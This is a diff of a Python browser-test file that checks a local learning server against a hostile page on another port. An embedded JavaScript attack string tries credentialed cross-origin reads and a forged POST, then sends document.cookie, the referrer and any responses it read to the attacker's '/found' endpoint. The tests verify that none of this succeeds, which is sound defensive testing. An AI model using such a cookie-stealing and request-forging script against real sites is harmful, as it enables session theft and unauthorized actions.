@@ -123,7 +123,7 @@ def test_a_folder_that_cannot_hold_the_file_opens_no_browser(tmp_path: Path, cap
     (tmp_path / server.DOOR / "full").mkdir(parents=True)
     with server._door(tmp_path, "http://127.0.0.1:1/?token=x") as door:
         server._open_browser(door)
-    assert capsys.readouterr().err.startswith("The browser was not opened")
+    assert capsys.readouterr().err == "No browser was opened. Open the address above.\n"
 
 
 ATTACK = """<script>
@@ -136,18 +136,17 @@ for (const path of ["/", "/problems/07/file", "/?token=guessed", "/renewal"]) {
 new EventSource(at + "/problems/07/events", { withCredentials: true });
 const add = (tag, properties) => document.body.appendChild(Object.assign(document.createElement(tag), properties));
 for (const tag of ["img", "script", "iframe"]) add(tag, { src: at + "/" });
-const form = add("form", { method: "POST", action: at + "/problems/07/hint", target: "_blank" });
+add("iframe", { name: "frame" });
+add("form", { method: "POST", action: at + "/problems/07/hint", target: "frame" }).submit();
 Promise.allSettled(ways).then(async (all) => {
   const read = await Promise.all(all.map(({ value }) => (value ? value.text() : "")));
   await fetch("/found", { method: "POST", body: JSON.stringify([document.cookie, document.referrer, ...read]) });
-  form.submit();
 });
 </script>"""
 
 
 def test_a_page_on_another_port_gets_nothing(page: Page, studio: Server):
     """The learner opens it in the browser that has the studio's cookie, by a link from the studio and by its address."""
-    before = studio.file("p07_next_token_loss").read_text()
     page = page.context.new_page()  # errors are expected here
     page.goto(f"{studio.base}/problems/07")
     with thief(page=f"<body>{ATTACK}".replace("BASE", studio.origin)) as other:
@@ -158,13 +157,12 @@ def test_a_page_on_another_port_gets_nothing(page: Page, studio: Server):
         other.wait_for("/found")
     found = [body for path, _, body in other.requests if path == "/found"]
     assert len(found) == 2
-    assert [json.loads(body)[:2] for body in found] == [
-        ["studio=junk", ""]
-    ] * 2  # its own cookie, and no page that it came from
+    for body in found:
+        assert json.loads(body)[:2] == ["studio=junk", ""], "its own cookie, and no page that it came from"
     value = studio.cookie.partition("=")[2]
     for secret in (value, studio.root, studio.token, "def next_token_loss"):
         assert secret not in json.dumps(other.requests)
-    assert studio.file("p07_next_token_loss").read_text() == before
+    assert json.loads(ask(studio, "/problems/07/hint", "POST", {}).body)["number"] == 1, "nobody has asked for one"
     page.goto(f"{studio.base}/problems/07")  # its cookie of the same name is in nobody's way
     expect(editor(page)).to_contain_text("def next_token_loss")
 
@@ -218,7 +216,7 @@ def test_who_takes_the_port_in_between_learns_nothing(page: Page, studio: Server
             other.wait_for("/renewal")
         expect(page.locator("#offline")).to_be_visible()
         again = page.context.new_page()
-        again.goto(f"{studio.base}/problems/07")
+        again.goto(studio.origin)
         other.wait_for("/found")
         again.close()
     renewal_keys = (studio.folder / "secret" / f"renewal-{port}").read_text().split()
